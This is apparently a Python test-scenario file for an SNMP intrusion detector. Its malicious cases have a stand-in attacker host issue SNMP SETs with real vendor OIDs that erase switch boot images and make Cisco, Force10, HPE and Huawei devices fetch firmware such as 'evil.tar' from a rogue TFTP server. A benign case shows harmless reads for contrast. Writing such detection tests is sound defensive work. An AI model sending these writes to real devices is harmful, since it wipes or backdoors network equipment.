"""BW04: more brands and tables; what devices boot from is erased; the same tables only read."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, HQ, ROGUE
from bootwarden.scenarios.snmp_rows import (
    CREATE_AND_GO,
    HP_DOWNLOAD,
    IMAGES,
    force10_saves,
    images,
    loads,
    orders,
    raised,
    to_inet,
    told,
)
from bootwarden.traffic import snmp
from bootwarden.traffic.wire import Wire

IMAGING = {
    "10.0.1.31": ("BW04", 1542006073),
    "10.0.1.32": ("BW04", 1542006025),
    "10.0.1.35": ("BW04", 1542006010),
}
ERASING = {
    "10.0.1.31": ("BW03", 3),
    "10.0.1.32": ("BW04", 1542006001),
    "10.0.1.33": ("BW04", 1),
    "10.0.1.34": ("BW04", 4),
    "10.0.1.35": ("BW04", 1542006032),
}


@scenario(
    "BW04",
    "malicious",
    raises=raised(ATTACKER, IMAGING),
    site=HQ,
    with_site=Expect(told("SNMP_Image_Copy", ROGUE, IMAGES)),
)
def bw04_more_brands(wire: Wire) -> None:
    """Force10 and HPE are told to load an image, and an HP switch made by Foundry to boot from a TFTP server."""
    orders(wire, ATTACKER, images(ROGUE))


@scenario(
    "BW04",
    "malicious",
    raises=raised(ATTACKER, ERASING),
    site=HQ,
    with_site=Expect(
        (
            Notice("SNMP_Config_Copy", "10.0.1.31"),
            Notice("SNMP_Image_Copy", "10.0.1.32"),
            Notice("SNMP_Image_Copy", "10.0.1.33"),
            Notice("SNMP_Image_Copy", "10.0.1.34", None, "flash:/s5700.cc"),
            Notice("SNMP_Image_Copy", "10.0.1.35"),
        )
    ),
)
def bw04_nothing_left_to_boot(wire: Wire) -> None:
    """What devices would boot from is erased, so that they look for it on the network; one gets another next image."""
    erasures: dict[str, list[snmp.Binding]] = {
        "10.0.1.31": [("1.3.6.1.4.1.9.2.1.54.0", 0)],
        "10.0.1.32": snmp.row("1.3.6.1.4.1.9.9.10.1.2.3.1", 9, {2: 1, 3: "flash:", 7: CREATE_AND_GO}),
        "10.0.1.33": [("1.3.6.1.4.1.9.2.10.6.0", 1)],
        "10.0.1.34": snmp.row("1.3.6.1.4.1.2011.6.9.1.2.1.1", 2, {2: 4, 8: "flash:/s5700.cc", 12: CREATE_AND_GO}),
        "10.0.1.35": [("1.3.6.1.4.1.2011.5.25.19.1.3.3.1.4.1", 2)],
    }
    orders(wire, ATTACKER, erasures)


HP_OLD = snmp.row(f"{HP_DOWNLOAD}.1.1", 1, {4: to_inet(ROGUE) + b"\x00\x45", 6: "KB_old.swi", 7: 2, 10: CREATE_AND_GO})


@scenario("BW04", "benign", site=HQ, with_site=Expect())
def bw04_tables_read_and_other_sets(wire: Wire) -> None:
    """Monitoring walks all these tables, their values as in an attack; an admin saves, squeezes and names a port."""
    for number, (device, bindings) in enumerate((loads(ROGUE) | images(ROGUE) | {"10.0.1.36": HP_OLD}).items()):
        manager = snmp.Manager(wire, "10.0.9.20", device, "public", port=40000 + number)
        for name, value in bindings:
            manager.get((name, value))
            manager.get_next(name.rsplit(".", 1)[0], (name, value))
        manager.get_bulk(bindings[0][0].rsplit(".", 2)[0], *bindings)
    harmless: dict[str, list[snmp.Binding]] = {
        "10.0.1.31": force10_saves(7),
        "10.0.1.32": [(f"{HP_DOWNLOAD}.13.0", 1416)],
        "10.0.1.33": snmp.row("1.3.6.1.4.1.9.9.10.1.2.3.1", 9, {2: 5, 3: "flash:", 7: CREATE_AND_GO}),
        "10.0.1.34": [("1.3.6.1.4.1.9.2.1.54.0", 1)],
    }
    orders(wire, "10.0.9.20", harmless)


@scenario(
    "BW04",
    "malicious",
    raises=[("BW04", 7, ATTACKER, "10.0.1.17"), ("BW04", 9, ATTACKER, "10.0.1.7")],
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Image_Copy", "10.0.1.17", None, "KB_evil.swi"),
            Notice("SNMP_Image_Copy", "10.0.1.7", "10.0.6.66", "evil.tar"),
        )
    ),
)
def bw04_hpe_and_director(wire: Wire) -> None:
    """An HPE switch is given an image to download, and a Smart Install director the URL of an image."""
    table = "1.3.6.1.4.1.11.2.14.11.1.3.1.1"
    rows = snmp.row(table, 1, {6: "KB_evil.swi", 10: 4})
    snmp.Manager(wire, ATTACKER, "10.0.1.17").set(*rows)
    url = f"tftp://{ROGUE}/evil.tar"
    snmp.Manager(wire, ATTACKER, "10.0.1.7").set(("1.3.6.1.4.1.9.9.725.1.2.1.0", url))
